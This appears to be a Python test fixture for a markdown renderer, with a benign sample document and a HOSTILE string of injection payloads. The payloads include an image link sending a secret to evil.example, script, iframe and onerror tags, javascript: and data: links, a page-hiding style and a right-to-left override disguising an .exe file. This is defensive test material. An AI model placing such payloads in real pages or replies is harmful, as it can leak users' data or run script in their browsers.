"""What the models say in these tests."""

MARKDOWN = """# What I found

The cache is **full**, see `encoding.xml`:

1. Limit it
2. Empty it:

   ```bash
   files_trim --keep 20GB
   ```

| disk | free |
|------|-----:|
| sda  | 1 TB |

```python
def free(path: str) -> int:
    return 0  # bytes
```

The mean is $x^2$, and it costs $5 or $10.
"""

HOSTILE = """Look ![a pixel](https://evil.example/steal?secret=1)
and <img src="https://evil.example/i.png" onerror="document.title='owned'">
<script>document.title='owned'</script><iframe src="https://evil.example"></iframe>
[click me](javascript:document.title='owned') [data](data:text/html,x) [good](https://good.example)

<style>body { display: none }</style>

Open invoice\u202efdp.exe
"""
